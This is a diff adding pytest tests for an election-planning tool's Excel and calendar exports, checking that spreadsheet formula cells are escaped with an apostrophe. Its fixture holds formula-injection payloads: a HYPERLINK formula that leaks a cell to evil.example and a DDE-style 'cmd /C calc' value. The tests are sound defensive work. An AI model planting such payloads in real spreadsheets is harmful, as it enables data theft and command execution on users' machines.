@@ -174,3 +174,61 @@ def test_what_is_not_one_address_is_refused_and_check_says_so(run, plan_dir, add
     (plan_dir / "pilkada.yaml").write_text(text + "notify:\n  mail_from: " + json.dumps(address) + "\n")
     checked = run("check", "--plan", str(plan_dir))
     assert checked.exit_code == 2 and "pilkada.yaml:" in checked.stdout and "notify.mail_from" in checked.stdout
+
+
+# -- 4. A spreadsheet never runs what a plan says
+
+FORMULAS = """\
+stakeholder: kpu
+phase: persiapan
+items:
+  - id: tautan
+    title: '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    owner: '@SUM(1+1)*cmd|'' /C calc''!A0'
+    due: H-100
+  - id: plus
+    title: "+62 812 3456"
+    owner: "-Sekretariat"
+    due: H-90
+"""
+
+
+def _excel_rows(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+
+
+def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers(run, isolated):
+    root = write_plan(isolated / "rumus", REGIONS_PLAN.format(plan_id="rumus"), {"kpu.yaml": FORMULAS})
+    rows = _excel_rows(run("export", "--excel", "--plan", str(root), "--on", "2024-08-28").stdout)
+    head, *body = rows
+    cells = {row[0]: dict(zip(head, row)) for row in body}
+    assert cells["kpu/tautan"]["Kegiatan"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
+    assert cells["kpu/tautan"]["Penanggung jawab"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["kpu/plus"]["Kegiatan"] == "'+62 812 3456" and cells["kpu/plus"]["Penanggung jawab"] == "'-Sekretariat"
+    assert cells["kpu/tautan"]["Sisa hari"] == "-9"  # a number, not text: no apostrophe
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in body for cell in row)
+    plain = run("export", "--format", "csv", "--plan", str(root), "--on", "2024-08-28").stdout
+    assert '"=HYPERLINK(' in plain  # the CSV for programs keeps the exact text
+
+
+def test_excel_speaks_the_output_language_and_so_does_the_calendar(run, plan_dir):
+    from icalendar import Calendar
+
+    for lang, headers, state, yes in (("id", ["Id", "Pemangku kepentingan"], "terlambat", "ya"),
+                                      ("en", ["Id", "Stakeholder"], "overdue", "yes")):
+        head, *body = _excel_rows(run("export", "--excel", "--lang", lang, "--plan", str(plan_dir),
+                                      "--on", "2024-08-28").stdout)
+        assert head[:2] == headers and "state" not in head
+        cells = {row[0]: dict(zip(head, row)) for row in body}
+        assert cells["polda/apel"][head[9]] == state
+        assert cells["polda/pemetaan-kerawanan"][head[14]] == yes
+        calendar = Calendar.from_ical(run("export", "--format", "ics", "--lang", lang, "--plan", str(plan_dir),
+                                          "--on", "2024-08-28").stdout.encode())
+        apel = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("polda/apel@"))
+        assert f": {state}" in str(apel["DESCRIPTION"])
+        vote_day = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("hari-h@"))
+        assert str(vote_day["SUMMARY"]).startswith("Hari H" if lang == "id" else "Vote day")
